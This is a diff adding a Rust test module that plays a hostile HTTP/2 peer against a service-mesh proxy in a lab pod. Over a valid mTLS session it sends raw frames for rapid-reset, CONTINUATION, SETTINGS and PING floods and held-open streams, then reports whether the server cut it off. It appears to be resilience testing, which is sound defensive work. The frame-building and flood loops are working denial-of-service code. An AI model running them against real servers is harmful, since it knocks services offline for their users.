@@ -150,3 +150,153 @@ mod anonymous {
         Arc::new(cfg)
     }
 }
+
+/// A hostile HTTP/2 peer: a real mTLS session with a valid mesh certificate,
+/// then raw frames no well-behaved client sends.
+pub mod hostile {
+    use std::time::{Duration, Instant};
+
+    use anyhow::Result;
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    use tokio_rustls::TlsConnector;
+    use weft_hbone::tls::{client_config, server_name};
+
+    use super::Attempt;
+    use crate::lab::LabPod;
+
+    /// What the peer does after the HTTP/2 preface.
+    #[derive(Clone, Copy, Debug, PartialEq, Eq)]
+    pub enum Attack {
+        /// HEADERS (a CONNECT) then RST_STREAM, on stream after stream.
+        RapidReset,
+        /// One HEADERS without END_HEADERS, then CONTINUATION frames forever.
+        ContinuationFlood,
+        /// SETTINGS frames, never reading the ACKs.
+        SettingsFlood,
+        /// PING frames, never reading the answers.
+        PingFlood,
+        /// 100 CONNECT streams on one connection, held open (never reset).
+        OpenStreams,
+    }
+
+    /// How an attack ended.
+    #[derive(Debug)]
+    pub struct Report {
+        pub frames: u64,
+        /// The server closed the connection (or stopped reading) before the time ran out.
+        pub cut_off: bool,
+    }
+
+    const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+    fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+        let len = payload.len() as u32;
+        let mut f = Vec::with_capacity(9 + payload.len());
+        f.extend_from_slice(&len.to_be_bytes()[1..]);
+        f.push(kind);
+        f.push(flags);
+        f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
+        f.extend_from_slice(payload);
+        f
+    }
+
+    /// A CONNECT header block, HPACK without Huffman or indexing.
+    fn connect_block(a: &Attempt) -> Vec<u8> {
+        let mut b = Vec::new();
+        let mut literal = |prefix: &[u8], value: &str| {
+            b.extend_from_slice(prefix);
+            b.push(value.len() as u8);
+            b.extend_from_slice(value.as_bytes());
+        };
+        literal(&[0x02], "CONNECT"); // :method (static index 2)
+        literal(&[0x01], &a.target.to_string()); // :authority (static index 1)
+        if let Some(ip) = a.forwarded {
+            literal(b"\x00\x09forwarded", &format!("for={ip}"));
+        }
+        b
+    }
+
+    /// Runs `attack` from inside `pod` against `a.server` for at most `time`.
+    pub fn run(pod: &LabPod, a: Attempt, attack: Attack, time: Duration) -> Result<Report> {
+        pod.netns.run(move || {
+            let rt = tokio::runtime::Builder::new_current_thread()
+                .enable_all()
+                .build()?;
+            rt.block_on(flood(a, attack, time))
+        })
+    }
+
+    async fn flood(a: Attempt, attack: Attack, time: Duration) -> Result<Report> {
+        let cert = a
+            .cert
+            .clone()
+            .ok_or_else(|| anyhow::anyhow!("a hostile peer needs a certificate"))?;
+        let tls = client_config(&cert, &a.roots, vec![a.expect.clone()])?;
+        let tcp = tokio::net::TcpStream::connect(a.server).await?;
+        let mut tls = TlsConnector::from(tls)
+            .connect(server_name(a.server.ip()), tcp)
+            .await?;
+        tls.write_all(PREFACE).await?;
+        tls.write_all(&frame(4, 0, 0, &[])).await?;
+        let block = connect_block(&a);
+        let junk = vec![b'x'; 16 * 1024];
+        let deadline = Instant::now() + time;
+        let mut frames = 0u64;
+        let mut stream = 1u32;
+        let mut cut_off = false;
+        if attack == Attack::ContinuationFlood {
+            tls.write_all(&frame(1, 0, 1, &block)).await?;
+        }
+        let mut discard = vec![0u8; 64 * 1024];
+        while Instant::now() < deadline {
+            let batch: Vec<u8> = match attack {
+                Attack::RapidReset => {
+                    let mut b = frame(1, 0x4, stream, &block);
+                    b.extend(frame(3, 0, stream, &8u32.to_be_bytes())); // CANCEL
+                    stream = stream.wrapping_add(2);
+                    b
+                }
+                Attack::ContinuationFlood => frame(9, 0, 1, &junk),
+                Attack::SettingsFlood => frame(4, 0, 0, &[]),
+                Attack::PingFlood => frame(6, 0, 0, &frames.to_be_bytes()),
+                Attack::OpenStreams if stream < 200 => {
+                    let b = frame(1, 0x4, stream, &block);
+                    stream += 2;
+                    b
+                }
+                Attack::OpenStreams => {
+                    // Hold them: read (and drop) what the server sends.
+                    let left = deadline.saturating_duration_since(Instant::now());
+                    match tokio::time::timeout(left, tls.read(&mut discard)).await {
+                        Ok(Ok(0)) | Ok(Err(_)) => {
+                            cut_off = true;
+                            break;
+                        }
+                        _ => continue,
+                    }
+                }
+            };
+            let wrote = tokio::time::timeout(Duration::from_secs(2), tls.write_all(&batch)).await;
+            match wrote {
+                Ok(Ok(())) => frames += 1,
+                // Closed, or the server stopped reading: either way cut off.
+                _ => {
+                    cut_off = true;
+                    break;
+                }
+            }
+            // Rapid reset reads what comes back (a real attacker does), so
+            // the connection is not merely stalled by TCP.
+            if attack == Attack::RapidReset {
+                match tokio::time::timeout(Duration::from_millis(1), tls.read(&mut discard)).await {
+                    Ok(Ok(0)) | Ok(Err(_)) => {
+                        cut_off = true;
+                        break;
+                    }
+                    _ => {}
+                }
+            }
+        }
+        Ok(Report { frames, cut_off })
+    }
+}
